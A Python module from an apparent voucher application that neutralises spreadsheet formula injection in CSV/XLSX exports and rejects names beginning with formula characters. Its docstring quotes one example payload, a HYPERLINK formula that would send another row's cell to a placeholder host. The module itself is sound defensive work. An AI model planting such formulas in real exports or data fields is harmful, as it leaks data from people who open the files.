"""Spreadsheet formula injection (OWASP "CSV injection"): a text cell beginning with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is run as a formula by Excel and LibreOffice when an
export is opened, so an enterprise named ``=HYPERLINK("http://x/?"&B3,"x")`` would read other rows.

Two defences, both here so every writer and every form uses the same characters: exports write such
text with one leading ``'`` (CSV) or typed as a string (XLSX, ``voucher.exports``); and names that
end up in exports (enterprise, provider, payee / account holder) refuse a leading formula character
at their source (:func:`mark_formula`).  No Flask here: the PDF module and services use it too.
"""
from __future__ import annotations

from voucher.errors import N_

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Per field, so one ValidationFailed can mark several fields (the message names the field).
NAME_MESSAGE = N_("The name must not begin with =, +, -, @, a tab or a line break (a spreadsheet would run it as a "
                  "formula).")
BANK_NAME_MESSAGE = N_("The bank's name must not begin with =, +, -, @, a tab or a line break (a spreadsheet would "
                       "run it as a formula).")
PAYEE_NAME_MESSAGE = N_("The payee's name must not begin with =, +, -, @, a tab or a line break (a spreadsheet would "
                        "run it as a formula).")

def starts_with_formula(text: str | None) -> bool:
    return bool(text) and str(text).startswith(FORMULA_START)


def neutralise_text(text: str) -> str:
    """A text cell as a spreadsheet shows it literally: one leading ``'`` when it begins with a
    formula character; any other text unchanged."""
    return "'" + text if starts_with_formula(text) else text


def mark_formula(errors: dict, field: str, value: str | None, message: str) -> None:
    """Rule: a name that ends up in exports or the bank file (enterprise, provider, payee, bank)
    never begins with a formula character; the refusal goes on ``field`` (unless it has one)."""
    if starts_with_formula(value) and field not in errors:
        errors[field] = message
